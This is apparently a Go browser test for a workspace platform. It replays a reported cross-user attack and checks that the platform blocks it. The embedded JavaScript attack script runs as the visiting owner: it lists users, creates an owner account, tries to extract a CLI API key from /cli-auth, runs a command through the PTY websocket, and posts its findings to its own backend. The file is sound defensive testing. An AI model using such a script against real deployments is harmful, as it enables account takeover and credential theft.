package handlers_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/google/uuid"

	"github.com/gatewaydev/coder/handlers"
	"github.com/gatewaydev/coder/internal/browsertest"
	"github.com/gatewaydev/coder/internal/testutil"
	"github.com/gatewaydev/coder/sdk"
)

// attackScript is what a member's app page runs in its visitor's browser,
// on the dashboard's origin, as reported in issue 12: it lists users,
// creates an owner, asks /cli-auth for an API key (by fetch, then through
// its form; in a frame; in a window it opens, whose form it submits), and
// types into the visitor's workspace through the PTY websocket. It posts what it got to its own backend.
const attackScript = `
(async () => {
  const r = {};
  const step = async (name, f) => { try { r[name] = await f(); } catch (e) { r[name] = 'error: ' + e; } };
  const keyOf = (doc) => { const el = doc.querySelector('[data-testid=cli-token]'); return el ? el.textContent.trim() : ''; };
  const parse = (t) => new DOMParser().parseFromString(t, 'text/html');
  await step('users', async () => { const x = await fetch('/api/v2/users'); return x.status + ' ' + (await x.text()).slice(0, 100); });
  await step('create_owner', async () => {
    const x = await fetch('/api/v2/users', {method: 'POST', headers: {'Content-Type': 'application/json'},
      body: JSON.stringify({username: 'mallory', email: 'mallory@example.com', password: 'mallory-password', role: 'owner'})});
    return String(x.status);
  });
  await step('cli_auth_fetch', async () => {
    const x = await fetch('/cli-auth');
    const doc = parse(await x.text());
    let key = keyOf(doc);
    const csrf = doc.querySelector('input[name=csrf]');
    if (!key && csrf) {
      const y = await fetch('/cli-auth', {method: 'POST', body: new URLSearchParams({csrf: csrf.value})});
      key = keyOf(parse(await y.text()));
    }
    return x.status + ' key=' + key;
  });
  await step('cli_auth_iframe', () => new Promise((resolve) => {
    const f = document.createElement('iframe');
    f.src = '/cli-auth';
    f.onload = () => {
      try { resolve('key=' + keyOf(f.contentDocument) + ' text=' + f.contentDocument.body.innerText.slice(0, 80)); }
      catch (e) { resolve('key= unreadable: ' + e); }
    };
    document.body.appendChild(f);
  }));
  // A window needs a click (the popup blocker): the page asks for one.
  await step('cli_auth_window', () => new Promise((resolve) => {
    document.getElementById('go').onclick = () => openWindow(resolve);
    document.body.dataset.ready = 'click';
  }));
  function openWindow(resolve) {
    const w = window.open('/cli-auth', 'cliauth');
    if (!w) { resolve('blocked'); return; }
    let n = 0, submitted = false;
    const tick = () => {
      n++;
      try {
        if (w.closed) { resolve('key= window out of reach'); return; }
        const key = keyOf(w.document);
        if (key) { resolve('key=' + key); return; }
        const csrf = w.document.querySelector('input[name=csrf]');
        if (csrf && !submitted) { submitted = true; csrf.form.submit(); }
      } catch (e) { resolve('key= unreadable: ' + e); return; }
      if (n > 300) { resolve('key= timeout'); return; }
      setTimeout(tick, 100);
    };
    tick();
  }
  await step('pty', () => new Promise((resolve) => {
    const ws = new WebSocket('ws://' + location.host + '/api/v2/workspaceagents/AGENT/pty?reconnect=RECONNECT&width=80&height=24');
    ws.binaryType = 'arraybuffer';
    let out = '';
    const done = (s) => { try { ws.close(); } catch (e) {} resolve(s); };
    ws.onopen = () => ws.send(JSON.stringify({data: 'echo pwned-$((6*7))\r'}));
    ws.onmessage = (ev) => {
      out += typeof ev.data === 'string' ? ev.data : new TextDecoder().decode(ev.data);
      if (out.includes('pwned-42')) done('ran');
    };
    ws.onerror = () => done('error');
    ws.onclose = (ev) => done('closed ' + ev.code);
    setTimeout(() => done('no output'), 15000);
  }));
  await fetch('report', {method: 'POST', body: JSON.stringify(r)});
  document.body.dataset.done = 'yes';
})();
`

// attackApp serves attackScript on a page and records the script's report
// and how often Chromium asked for anything.
type attackApp struct {
	port int
	mu   sync.Mutex
	// fromChromium counts requests that Chromium made.
	fromChromium int
	report       map[string]string
}

func newAttackApp(t *testing.T, ownerAgent string) *attackApp {
	a := &attackApp{}
	script := strings.NewReplacer("AGENT", ownerAgent, "RECONNECT", uuid.NewString()).Replace(attackScript)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		if strings.Contains(r.UserAgent(), "Chrome") {
			a.fromChromium++
		}
		a.mu.Unlock()
		if r.Method == http.MethodPost && r.URL.Path == "/report" {
			var rep map[string]string
			b, _ := io.ReadAll(r.Body)
			if err := json.Unmarshal(b, &rep); err != nil {
				rep = map[string]string{"bad report": string(b)}
			}
			a.mu.Lock()
			a.report = rep
			a.mu.Unlock()
			return
		}
		// It would keep the windows it opens on the dashboard in its reach.
		w.Header().Set("Cross-Origin-Opener-Policy", "same-origin")
		fmt.Fprintf(w, "<!doctype html><html><body><h1 id=tool>A handy tool</h1><button id=go>Start</button><script>%s</script></body></html>", script)
	}))
	t.Cleanup(srv.Close)
	a.port = srv.Listener.Addr().(*net.TCPAddr).Port
	return a
}

func (a *attackApp) state() (int, map[string]string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.fromChromium, a.report
}

// TestBrowserPathAppAttack replays issue 12's attack in real Chromium: bob
// runs a page as an "authenticated" path app of his workspace, and the
// deployment's owner, logged in, opens its link. By default the owner gets
// the refusal page and the page never runs: no user is made, no API key,
// no command in the owner's workspace. With
// --dangerous-allow-path-app-sharing the page runs and acts as the owner
// (as the flag warns), yet /cli-auth, fetched by its script or loaded in a
// frame, gives it no key.
func TestBrowserPathAppAttack(t *testing.T) {
	t.Parallel()
	for _, sharing := range []bool{false, true} {
		t.Run(fmt.Sprintf("sharing=%v", sharing), func(t *testing.T) {
			ts := newTestServer(t, func(o *testOptions) {
				o.tailnet = true
				o.browserOnly = true
				o.configure = func(o *handlers.Options) { o.DangerousAllowPathAppSharing = sharing }
			})
			ts.pushTemplate(t, "base", testTemplate)
			dev := createWorkspace(t, ts.Owner, "dev", "base")
			startAgent(t, ts, dev.Agents[0].Token, nil)
			attack := newAttackApp(t, dev.Agents[0].ID)
			ts.pushTemplate(t, "tools", fmt.Sprintf(`provisioner: manual
agents:
  - name: main
    apps:
      - {slug: tool, url: "http://localhost:%d", share: authenticated}
`, attack.port))
			bobs := createWorkspace(t, ts.member(t, "bob"), "bobs", "tools")
			startAgent(t, ts, bobs.Agents[0].Token, nil)
			const link = "/@bob/bobs.main/apps/tool/"
			// bob's app is up: he opens it himself.
			bob := loggedIn(t, ts, "bob", "bob-password")
			testutil.Eventually(t, 30*time.Second, "bob's app", func() bool {
				return bob.do("GET", link, nil, nil).StatusCode == http.StatusOK
			})
			// And so is the owner's agent, which the page would type into.
			e := &termEnv{ts: ts}
			e.waitAgent(t, "dev", sdk.AgentConnected)
			keysBefore := apiKeyCount(t, ts)

			ctx := browsertest.New(t, 90*time.Second)
			p := termPage{t: t, ctx: ctx}
			base := ts.URL.String()
			p.login(base, "owner", "owner-password")
			if !sharing {
				p.do("open bob's app", chromedp.Navigate(base+link), chromedp.WaitVisible(chromedp.CSS(`[data-testid=app-refused], #tool`)))
				reason, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.querySelector("[data-testid=app-refused-reason]")?.textContent ?? "no refusal: " + document.body.innerText`))
				if err != nil || !strings.Contains(reason, "site owners do not open other users' path apps") {
					t.Fatalf("refusal page says %q (%v)", reason, err)
				}
				if n, rep := attack.state(); n != 0 || rep != nil {
					t.Fatalf("the attack page reached the owner's browser: %d requests, report %v", n, rep)
				}
			} else {
				p.do("open bob's app and click its button", chromedp.Navigate(base+link),
					chromedp.WaitVisible(chromedp.CSS(`body[data-ready=click]`)), chromedp.Click(chromedp.CSS(`#go`)))
				var rep map[string]string
				testutil.Eventually(t, 60*time.Second, "the attack page's report", func() bool {
					_, rep = attack.state()
					return rep != nil
				})
				t.Logf("the attack page reports %v", rep)
				// What the flag warns of: the page acts as its visitor.
				if !strings.HasPrefix(rep["users"], "200 ") || rep["create_owner"] != "201" || rep["pty"] != "ran" {
					t.Fatalf("the page's script did not act as the owner (the test would prove nothing): %v", rep)
				}
				if got := rep["cli_auth_fetch"]; got != "403 key=" {
					t.Errorf("/cli-auth fetched by the app's script: %q, want 403 and no key", got)
				}
				if got := rep["cli_auth_iframe"]; !strings.HasPrefix(got, "key= ") {
					t.Errorf("/cli-auth in the app's frame: %q, want no key", got)
				}
				if got := rep["cli_auth_window"]; got != "key= window out of reach" {
					t.Errorf("/cli-auth in a window that the app opened: %q, want it out of the app's reach", got)
				}
			}
			if n := apiKeyCount(t, ts); n != keysBefore {
				t.Errorf("the attack made %d API keys", n-keysBefore)
			}
			if !sharing {
				var users []sdk.User
				if err := ts.Owner.Request(testContext(t), http.MethodGet, "/api/v2/users", nil, &users); err != nil {
					t.Fatal(err)
				}
				for _, u := range users {
					if u.Username == "mallory" {
						t.Errorf("the attack made an owner: %v", users)
					}
				}
				// The owner, in the address bar, still gets a token for
				// `coder login` from /cli-auth's form.
				p.do("create a CLI token", chromedp.Navigate(base+"/cli-auth"),
					chromedp.WaitVisible(chromedp.CSS(`[data-testid=cli-auth-create]`)))
				if n := apiKeyCount(t, ts); n != keysBefore {
					t.Errorf("opening /cli-auth made %d API keys", n-keysBefore)
				}
				p.do("submit the form", chromedp.Click(chromedp.CSS(`[data-testid=cli-auth-create]`)),
					chromedp.WaitVisible(chromedp.CSS(`[data-testid=cli-token]`)))
				tok, err := chromedp.Run(ctx, chromedp.Text(chromedp.CSS(`[data-testid=cli-token]`)))
				if err != nil {
					t.Fatal(err)
				}
				var me sdk.User
				if err := ts.client(strings.TrimSpace(tok)).Request(testContext(t), http.MethodGet, "/api/v2/users/me", nil, &me); err != nil || me.Username != "owner" {
					t.Fatalf("the token from /cli-auth: %+v %v", me, err)
				}
			}
		})
	}
}
